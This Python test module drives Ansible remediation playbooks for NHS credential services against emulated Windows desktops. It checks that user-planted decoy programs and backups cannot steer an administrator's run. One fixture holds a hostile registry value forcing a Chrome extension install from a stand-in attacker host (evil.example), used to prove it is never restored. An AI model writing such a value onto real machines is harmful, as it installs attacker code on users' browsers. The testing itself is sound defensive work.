"""Issue 17 end to end, through the playbooks against emulated desktops: nothing a standard user
controls steers an administrator's run (a decoy program, a planted backup), a killed run leaves
nothing behind, two runs never overlap, and unknown process owners are never "nobody"."""

from __future__ import annotations

import re
import threading
from pathlib import Path
from typing import Any

import yaml
from harness import SCENARIOS, run_playbook

CM_FIX = """
- name: Fix NHS Credential Management services and processes
  hosts: windows
  gather_facts: false
  roles:
    - role: nhs_cm.remediation.cm_service
"""
IA_HOME = "C:\\Program Files (x86)\\HSCIC\\Identity Agent\\"
BOB = {"user": "NHS\\bwhite", "sid": "S-1-5-21-2847561937-1930485726-3150942856-14077"}
DECOY = "C:\\Users\\bwhite\\Downloads\\IdentityAgent.exe"


def _scenario(tmp_path: Path, source: str, name: str, change: Any) -> Path:
    """A copy of a library scenario with ``change(host)`` applied, its host named ``name``."""
    doc = yaml.safe_load((SCENARIOS / f"{source}.yml").read_text())
    host = doc["hosts"][0]
    old = host["name"]
    host["name"] = name
    change(host)
    doc["expect"] = {name: doc.get("expect", {}).get(old, [])}
    if old in doc.get("inventory_vars", {}):
        doc["inventory_vars"] = {name: doc["inventory_vars"][old]}
    path = tmp_path / f"{name}.yml"
    path.write_text(yaml.safe_dump(doc))
    return path


def _recap(output: str) -> dict[str, dict[str, int]]:
    return {host: {k: int(v) for k, v in re.findall(r"(\w+)=(\d+)", counters)}
            for host, counters in re.findall(r"^(\S+)\s+:\s+(ok=.*)$", output, re.MULTILINE)}


def _host(running: Any, name: str) -> dict[str, Any]:
    return running.get(f"/state/{name}")


def _with_decoy(host: dict[str, Any]) -> None:
    """NHS\\bwhite, signed in on session 2, runs a copy of the Identity Agent from Downloads."""
    host["sessions"].append({"id": 2, **BOB})
    host["profiles"].append({**BOB, "path": "C:\\Users\\bwhite", "loaded": True})
    host["processes"] += [{"image": "C:\\Windows\\explorer.exe", "session": 2, "user": BOB["user"]},
                          {"image": DECOY, "session": 2, "user": BOB["user"], "version": "2.4.10.0"}]
    host["files"].append({"path": DECOY, "version": "2.4.10.0"})


def test_a_decoy_identity_agent_is_never_started_the_installed_one_is(estate, tmp_path: Path) -> None:
    running = estate([_scenario(tmp_path, "ia-not-running", "pc-decoy", _with_decoy)])
    playbook = tmp_path / "fix.yml"
    playbook.write_text(CM_FIX)
    run = run_playbook(str(playbook), running.inventory, tmp_path / "r", "-v")
    assert run.rc == 0, run.output
    started = [p for p in _host(running, "pc-decoy")["processes"]
               if p["session"] == 1 and p["image"].lower().endswith("identityagent.exe")]
    assert [p["image"] for p in started] == [IA_HOME + "IdentityAgent.exe"], "from the install data only"
    assert all(p["user"] == "NHS\\jsmith" for p in started)
    decoys = [p for p in _host(running, "pc-decoy")["processes"] if p["image"] == DECOY]
    assert [p["session"] for p in decoys] == [2], "the decoy runs where its user started it, nowhere else"


def test_a_program_in_a_folder_users_can_write_is_not_started_and_says_why(estate, tmp_path: Path) -> None:
    def writable(host: dict[str, Any]) -> None:
        host["user_writable_folders"] = [IA_HOME.rstrip("\\")]
    running = estate([_scenario(tmp_path, "ia-not-running", "pc-writable", writable)])
    playbook = tmp_path / "fix.yml"
    playbook.write_text(CM_FIX)
    run = run_playbook(str(playbook), running.inventory, tmp_path / "r", "-v")
    assert not [p for p in _host(running, "pc-writable")["processes"]
                if p["image"].lower().endswith("identityagent.exe")], "nothing started"
    assert "forbidden" in run.output or "not started" in run.output, run.output
    assert "Identity Agent" in run.output and "Users" in run.output, "the reason names the folder's group"


PLANTED = {"id": "zz-planted", "saved_at": "2099-01-01T00:00:00.000Z", "missing_keys": [],
           "modified": "2099-01-01T00:00:00.000Z", "owner": "NHS\\jsmith",
           "entries": [{"kind": "reg", "key": "HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist",
                        "view": "64", "name": "1", "existed": True, "type": "REG_SZ",
                        "data": "abcdefghijklmnopabcdefghijklmnop;https://evil.example/update.xml"}]}
FOREIGN = {**PLANTED, "id": "yy-admin-owned", "owner": "BUILTIN\\Administrators",
           "modified": "2001-01-01T00:00:00.000Z", "saved_at": "2001-01-01T00:00:00.000Z"}
BROKEN = {"id": "xx-broken", "content": '{"entries": [', "modified": "2098-01-01T00:00:00.000Z"}


def test_a_planted_backup_is_never_restored(estate, tmp_path: Path) -> None:
    def planted(host: dict[str, Any]) -> None:
        host["backups"] = [PLANTED, FOREIGN, BROKEN]
    running = estate([_scenario(tmp_path, "port-service-stopped", "pc-planted", planted)])
    before = _host(running, "pc-planted")
    playbook = tmp_path / "fix.yml"
    playbook.write_text(CM_FIX)
    fix = run_playbook(str(playbook), running.inventory, tmp_path / "r", "-v")
    assert fix.rc == 0, fix.output
    port = [s["state"] for s in _host(running, "pc-planted")["services"] if s["name"] == "NHSPortService"]
    assert port == ["running"]

    # latest: the newest backup the administrator wrote, by the file system's time: not the planted
    # file (newer, but a user's), not the broken one (named, and the others still listed).
    back = run_playbook("playbooks/rollback.yml", running.inventory, tmp_path / "b", "-e", "backup_id=latest", "-v")
    assert back.rc == 0, back.output
    assert "zz-planted" in back.output and "xx-broken" in back.output
    after = _host(running, "pc-planted")
    assert after["services"] == before["services"] or [
        s["state"] for s in after["services"] if s["name"] == "NHSPortService"] == ["stopped"]
    assert after["registry"] == before["registry"], "nothing of the planted entries was written"

    # A backup Administrators own but with a value no role writes is refused whole, by name.
    foreign = run_playbook("playbooks/rollback.yml", running.inventory, tmp_path / "c", "-e",
                           "backup_id=yy-admin-owned", "-v")
    assert foreign.rc != 0
    assert "ExtensionInstallForcelist" in foreign.output
    assert _host(running, "pc-planted")["registry"] == before["registry"]


SID_OFFLINE = "S-1-5-21-3658829126-1403513278-1815468410-1105"


def _leftover(stuck: bool) -> Any:
    def change(host: dict[str, Any]) -> None:
        profile = next(p for p in host["profiles"] if not p.get("loaded", True))
        host["hive_mounts"] = [{"mount": "nhs_cm_0123456789ab", "hive": profile["sid"]}]
        if stuck:
            host.setdefault("behaviour", {})["stuck_hives"] = [profile["sid"]]
    return change


def test_a_hive_a_killed_run_left_loaded_is_unloaded_by_the_next_run(estate, tmp_path: Path) -> None:
    running = estate([_scenario(tmp_path, "offline-profile", "pc-leftover", _leftover(False)),
                      _scenario(tmp_path, "offline-profile", "pc-stuck", _leftover(True))])
    assert _host(running, "pc-leftover")["hive_mounts"] and _host(running, "pc-stuck")["hive_mounts"]
    audit = run_playbook("playbooks/audit.yml", running.inventory, tmp_path / "r")
    assert audit.rc != 0
    counts = _recap(audit.output)
    assert counts["pc-leftover"]["failed"] == 0 and not _host(running, "pc-leftover")["hive_mounts"]
    # A hive that will not unload fails that host alone, with one line saying which and why.
    assert counts["pc-stuck"]["failed"] == 1 and _host(running, "pc-stuck")["hive_mounts"]
    assert "HKU\\nhs_cm_0123456789ab" in audit.output and "cannot be unloaded" in audit.output
    assert audit.report is not None
    assert audit.report["hosts"]["pc-leftover"]["status"] == "ok"
    assert "cannot be unloaded" in str(audit.report["hosts"]["pc-stuck"]["error"])


def test_two_runs_on_one_pc_never_overlap(estate, tmp_path: Path) -> None:
    def slow(host: dict[str, Any]) -> None:
        host.setdefault("behaviour", {}).update(slow_ops={"os_info": 6}, mutex_wait_seconds=1)
    running = estate([_scenario(tmp_path, "healthy-cm4-scc", "pc-busy", slow)])
    runs: list[Any] = [None, None]

    def audit(index: int) -> None:
        runs[index] = run_playbook("playbooks/audit.yml", running.inventory, tmp_path / f"r{index}")
    threads = [threading.Thread(target=audit, args=(index,)) for index in (0, 1)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=300)
    outcomes = sorted(_recap(run.output)["pc-busy"]["failed"] for run in runs)
    assert outcomes == [0, 1], [run.output[-1500:] for run in runs]
    busy = next(run for run in runs if _recap(run.output)["pc-busy"]["failed"])
    assert "another run of nhs_cm.remediation holds this PC" in busy.output


def test_unknown_process_owners_are_unknown_never_nobody(estate, tmp_path: Path) -> None:
    def unreadable(host: dict[str, Any]) -> None:
        host.setdefault("behaviour", {})["process_owners_unreadable"] = True
    running = estate([_scenario(tmp_path, "healthy-cm1-ia", "pc-owners", unreadable)])
    audit = run_playbook("playbooks/audit.yml", running.inventory, tmp_path / "r")
    assert audit.report is not None, audit.output
    entry = audit.report["hosts"]["pc-owners"]
    assert "CM_NOT_RUNNING" not in {f["id"] for f in entry["findings"]}, "never 'nobody runs CM'"
    unknown = {u["check"]: u["reason"] for u in entry["unknown"]}
    assert {"CM_NOT_RUNNING", "IA_NOT_RUNNING"} <= set(unknown)
    assert "IncludeUserName" in unknown["CM_NOT_RUNNING"]
